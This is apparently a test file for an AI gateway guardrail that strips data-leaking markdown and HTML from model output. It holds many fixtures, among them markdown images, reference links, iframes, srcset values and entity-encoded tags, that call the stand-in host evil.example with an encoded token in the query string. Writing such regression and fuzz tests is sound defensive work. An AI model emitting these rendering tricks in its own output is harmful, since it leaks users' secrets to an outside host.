// The exfiltration stage judged by what clients render: markdown-it (html on/off × linkify on/off) turns the
// gateway's output into HTML, parse5 parses that HTML as a browser would, and no element may fetch, link to or run
// anything outside the allowlist. Regression tests for the forms the regex rules let through, then a seeded fuzz
// over adversarial documents, whole and streamed in random splits (streamed must equal whole).
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { CfgGuardrails } from '../api/gateway-config.ts';
import { rng } from './eval/generate.ts';
import { compileGuard, STRICT_GUARDRAILS, type Guard } from './guard.ts';
import { CUT_NOTICE, MAX_PIECE } from './markdown.ts';
import { cutsOf, gen } from './markdown-fuzz.ts';
import { violations } from './markdown-oracle.ts';

const ALLOWED = ['docs.example.com'];
const cfg = (mode: CfgGuardrails['exfiltration']['mode']): CfgGuardrails => ({
  ...STRICT_GUARDRAILS,
  redaction: { detectors: [], customPatterns: [] },
  exfiltration: { mode, allowedHosts: ALLOWED },
});
const guard = compileGuard(cfg('neutralize'));

function streamed(g: Guard, text: string, cuts: readonly number[]): { text: string; detectors: string[] } {
  const s = g.streamOutput();
  let out = '';
  const detectors: string[] = [];
  let at = 0;
  for (const c of [...cuts, text.length]) {
    const r = s.push(text.slice(at, c));
    out += r.text;
    detectors.push(...r.findings.map((f) => f.detector));
    at = c;
  }
  const e = s.end();
  detectors.push(...e.findings.map((f) => f.detector));
  return { text: out + e.text, detectors };
}

const show = (s: string) => JSON.stringify(s.length > 300 ? `${s.slice(0, 300)}…` : s);

function assertSafe(input: string, g: Guard = guard): string {
  const whole = g.scanOutput(input).text;
  const v = violations(whole, ALLOWED);
  assert.deepEqual(
    v,
    [],
    `rendered output reaches outside the allowlist\ninput:  ${show(input)}\noutput: ${show(whole)}`,
  );
  return whole;
}

describe('exfiltration: regressions', () => {
  // each of these renders a remote image or link through the old regex rules (checked against main)
  const failedOnMain: [string, string][] = [
    [
      'alt text over 500 characters',
      `Look: ![${'x'.repeat(600)}](https://evil.example/p?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA) there`,
    ],
    ['URL over 1,000 characters', `![chart](https://evil.example/c?d=${'A'.repeat(1500)})`],
    [
      'nested brackets in the alt text',
      '![a [nested] label](https://evil.example/n?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA)',
    ],
    [
      'reference-style image, definition inside a block quote after use',
      'Logo: ![logo][brand]\n\n> [brand]: https://evil.example/l.png?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA',
    ],
    [
      'reference-style image, definition with its destination on the next line',
      '![logo][brand]\n\n[brand]:\n  https://evil.example/l.png?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA',
    ],
    [
      'bare URL (linkify)',
      'Your summary is ready at https://evil.example/s?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA — open it.',
    ],
    ['img srcset', '<img srcset="https://evil.example/a.png?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA 1x, /b.png 2x">'],
    ['iframe', '<iframe src="https://evil.example/f?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA"></iframe>'],
    ['entity-encoded raw HTML URL', '<img src="&#104;ttps://evil.example/e?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA">'],
    ['line break inside an image label', '![a\nb](https://evil.example/lb?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA)'],
    [
      'unclosed img tag in an HTML block',
      '<div>\n<img src="https://evil.example/u?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA\n\nlater text',
    ],
    [
      'comment hiding a tag from a per-token view',
      '<!-- x\n\n<b title="-->"><img src=https://evil.example/c?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA>">',
    ],
  ];
  // held by the old rules too; kept as coverage of the new stage
  const heldOnMain: [string, string][] = [
    [
      'reference-style image, definition after use',
      'Logo: ![logo][brand]\n\n[brand]: https://evil.example/l.png?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA',
    ],
    [
      'reference-style image, definition before use, other case',
      '[Brand]: https://evil.example/l.png?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA\n\n![logo][BRAND]',
    ],
    [
      'collapsed and shortcut reference images',
      '![brand][] and ![brand]\n\n[brand]: <https://evil.example/x?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA> "t"',
    ],
    [
      'data: link',
      '[p](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA6)',
    ],
    ['destination on the next line', '[click](\nhttps://evil.example/next?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA)'],
    [
      'image inside a list item indented as code elsewhere',
      '- item\n\n    ![x](https://evil.example/i?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA)',
    ],
    [
      'HTML block with markdown inside (html off parses it)',
      '<div>\n![x](https://evil.example/h?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA)\n</div>',
    ],
  ];
  const cases = [...failedOnMain, ...heldOnMain];
  for (const [name, input] of cases) {
    it(name, () => {
      assert.notDeepEqual(
        violations(input, ALLOWED),
        [],
        'the input itself renders something remote (the test can fail)',
      );
      const whole = assertSafe(input);
      assert.ok(!whole.includes('evil.example/') || !violations(whole, ALLOWED).length);
      const r = rng(input.length);
      for (let k = 0; k < 5; k++)
        assert.equal(streamed(guard, input, cutsOf(input.length, r)).text, whole, `split #${k}`);
      assert.ok(
        guard.scanOutput(input).findings.some((f) => f.kind === 'exfiltration'),
        'reported',
      );
    });
  }

  it('a bare URL overlapping a link or image: streamed equals whole for every split (seed 77, doc #1102)', () => {
    // linkify reads `https://…877![alt]` as one URL, the other configurations the image (or link) after it; the
    // union of the two rewrites must keep the URL's beginning, which a stream releases before the `!` or `[` arrives
    const docs = [
      'http://v/3f2a9c1e8b798877[](s:\n"")', // minimised from the fuzz document
      'see https://evil.example/u/3f2a9c1e8b7d6a5f4e3d2c1b0a998877![alt](<https://evil.example/c/x>\n"t")',
    ];
    for (const input of docs) {
      assert.notDeepEqual(violations(input, ALLOWED), [], 'the input itself renders something remote');
      const whole = assertSafe(input);
      const splits = [Array.from({ length: input.length - 1 }, (_, j) => j + 1)];
      for (let c = 1; c < input.length; c++) splits.push([c]);
      for (const cuts of splits) assert.equal(streamed(guard, input, cuts).text, whole, `cuts ${cuts.join(',')}`);
    }
  });

  it('keeps allowed, relative and code content as it is', () => {
    const benign = [
      'See [the guide](https://docs.example.com/guide) and ![arch](https://docs.example.com/a.png).',
      '[next](../next.md), [top](#top), <mailto:team@example.com>, <b>bold</b>, a < b > c, List<Integer>.',
      '```html\n<img src="https://evil.example/in-code.png">\n```',
      'Inline `![x](https://evil.example/y)` code.',
      '[ref]: https://docs.example.com/r\n\nSee [ref].',
      // an inline raster image requests nothing (exfiltration.ts INLINE_IMAGE); short navigation is not data
      '![p](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
      'Docs: https://github.com/acme/widget?tab=readme-ov-file#installation and <https://pkg.go.dev/net/http#Client>.',
      '<picture><source media="(prefers-color-scheme: dark)" srcset="docs/dark.png"><img src="docs/light.png"></picture>',
    ];
    for (const t of benign) assert.equal(guard.scanOutput(t).text, t);
  });

  it('flag mode reports without changing the text; block mode blocks', () => {
    // the bare URL carries data (an encoded query): a plain https://evil.example/b?d=x is a link, not a channel
    const text = 'see ![x](https://evil.example/a.png) and https://evil.example/b?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA';
    const flag = compileGuard(cfg('flag')).scanOutput(text);
    assert.equal(flag.text, text);
    assert.deepEqual(
      flag.findings.map((f) => [f.detector, f.action]),
      [
        ['markdown-image', 'flagged'],
        ['bare-url', 'flagged'],
      ],
    );
    assert.equal(flag.blocked, undefined);
    const block = compileGuard(cfg('block')).scanOutput(text);
    assert.deepEqual(block.blocked, { check: 'exfiltration', detector: 'markdown-image' });
    const s = compileGuard(cfg('block')).streamOutput();
    s.push('intro\n\n![x](https://evil.');
    s.push('example/a.png)\n\nmore\n');
    s.end();
    assert.deepEqual(s.blocked, { check: 'exfiltration', detector: 'markdown-image' });
    const off = compileGuard(cfg('off'));
    assert.equal(off.hasOutputRules, false);
  });

  it('a redaction marker next to a link does not hide it (the stage judges the text after redaction)', () => {
    const g = compileGuard({ ...cfg('neutralize'), redaction: { detectors: ['secrets'], customPatterns: [] } });
    const out = g.scanOutput('![k](https://evil.example/?k=AKIAIOSFODNN7EXAMPLE)').text;
    assert.deepEqual(violations(out, ALLOWED), []);
    assert.ok(!out.includes('AKIAIOSFODNN7EXAMPLE'));
  });
});

describe('exfiltration: the holdback', () => {
  it('holds an unfinished image until it is complete, releases plain lines early', () => {
    const s = guard.streamOutput();
    let out = s.push('Plain first line.\n').text;
    assert.equal(out, 'Plain first line.\n', 'a line nothing can turn into a link is released at once');
    out += s.push('Then ![a](https://evil.exa').text;
    assert.ok(!out.includes('!['), 'an unfinished image is held');
    out += s.push('mple/x.png) done\n\nnext').text + s.end().text;
    assert.deepEqual(violations(out, ALLOWED), []);
    assert.equal(out, guard.scanOutput('Plain first line.\nThen ![a](https://evil.example/x.png) done\n\nnext').text);
  });

  it('a piece longer than MAX_PIECE is cut and neutralised, never released raw; streamed equals whole', () => {
    const body = Array.from({ length: 2000 }, (_, i) => `[l${i}](https://evil.example/${i}) word`).join('\n');
    const fence = `\`\`\`\n${'x'.repeat(100)}\n`.repeat(1) + `${'code line\n'.repeat(8000)}`;
    for (const input of [
      body,
      fence + '\n\n![x](https://evil.example/after-fence)',
      `${'a'.repeat(3 * MAX_PIECE)} ![x](https://evil.example/long-line)`,
    ]) {
      const s = guard.streamOutput();
      let out = '';
      let maxHeld = 0;
      for (let i = 0; i < input.length; i += 97) {
        out += s.push(input.slice(i, i + 97)).text;
        maxHeld = Math.max(maxHeld, s.held);
      }
      out += s.end().text;
      assert.ok(maxHeld <= 2 * MAX_PIECE + 97, `held ${maxHeld}`);
      assert.deepEqual(violations(out, ALLOWED), []);
      assert.equal(out, guard.scanOutput(input).text, 'streamed = whole');
    }
    assert.ok(guard.scanOutput(body).text.includes(CUT_NOTICE.replace(/\\/g, '\\')));
  });
});

describe('exfiltration: fuzz (seeded; rendered output judged by markdown-it + parse5)', () => {
  const DOCS = Number(process.env['TOLLGATE_EXFIL_FUZZ'] ?? 500);
  const SEED = Number(process.env['TOLLGATE_EXFIL_SEED'] ?? 20261201);
  it(`${DOCS} adversarial documents: nothing remote survives, under 4 client configs, whole and streamed (3 random splits each)`, () => {
    const r = rng(SEED);
    let withViolations = 0;
    for (let i = 0; i < DOCS; i++) {
      const input = gen(r);
      const before = violations(input, ALLOWED);
      if (before.length > 0) withViolations++;
      const res = guard.scanOutput(input);
      const after = violations(res.text, ALLOWED);
      assert.deepEqual(after, [], `doc #${i}\ninput:  ${show(input)}\noutput: ${show(res.text)}`);
      if (before.length > 0)
        assert.ok(
          res.findings.some((f) => f.kind === 'exfiltration'),
          `doc #${i}: rendered remote content but no finding (block mode would not block)\n${show(input)}`,
        );
      for (let k = 0; k < 3; k++) {
        const cuts =
          k === 0 && i % 10 === 0 ? Array.from({ length: input.length - 1 }, (_, j) => j + 1) : cutsOf(input.length, r);
        assert.equal(streamed(guard, input, cuts).text, res.text, `doc #${i} split #${k}\ninput: ${show(input)}`);
      }
    }
    assert.ok(withViolations > DOCS / 2, `the generator must mostly produce real attacks (${withViolations}/${DOCS})`);
  });
});
